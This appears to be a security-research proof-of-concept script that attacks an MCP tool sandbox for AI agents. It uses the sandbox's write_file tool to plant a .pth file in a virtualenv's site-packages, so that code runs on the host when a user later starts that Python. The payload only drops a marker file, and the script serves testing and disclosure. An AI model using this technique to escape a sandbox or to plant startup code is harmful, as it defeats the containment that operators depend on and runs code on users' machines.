#!/usr/bin/env python3
"""F4b: the same plant with the write_file tool alone (offered by every allowlist policy with max_file_bytes > 0,
the default; no interpreter pinned). Policy: /tmp/atk40/wc.toml pins only wc. Needs setup.sh and f4's venv."""
import sys, os, subprocess, hashlib
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stdio import Stdio, text
wc = os.path.realpath("/usr/bin/wc")
pol = open("/tmp/atk40/py.toml").read().split("[[allowlist.commands]]")[0] + '[[allowlist.commands]]\nname = "wc"\npath = "%s"\nsha256 = "%s"\n' % (wc, hashlib.sha256(open(wc, "rb").read()).hexdigest())
open("/tmp/atk40/wc.toml", "w").write(pol); os.chmod("/tmp/atk40/wc.toml", 0o600)
subprocess.run("rm -rf /tmp/atk40/ws/venv /tmp/atk40/PWNED-BY-PTH-*; /usr/bin/python3 -m venv --without-pip /tmp/atk40/ws/venv && chown -R 65534:65534 /tmp/atk40/ws/venv", shell=True, check=True)
s = Stdio(["/tmp/atk40/mcpsandbox", "serve", "--policy", "/tmp/atk40/wc.toml"], env={"HOME": "/tmp/atk40/home", "PATH": "/usr/bin:/bin"}, err="/tmp/atk40/f4b.log")
print("tools:", [t["name"] for t in s.req("tools/list", {})["result"]["tools"]])
pth = "import os; open('/tmp/atk40/PWNED-BY-PTH-' + str(os.getuid()), 'w').write('host code ran\\n')\n"
print(text(s.call("write_file", {"path": "venv/lib/python3.11/site-packages/zz_atk40.pth", "content": pth})))
print(text(s.call("write_file", {"path": ".venv/lib/python3.11/site-packages/zz_atk40.pth", "content": pth})))
s.close()
print(subprocess.run(["/tmp/atk40/ws/venv/bin/python", "-c", "print('user ran venv/bin/python')"], capture_output=True, text=True).stdout.strip())
print(subprocess.run("ls -la /tmp/atk40/PWNED-BY-PTH-*", shell=True, capture_output=True, text=True).stdout.strip() or "no marker")
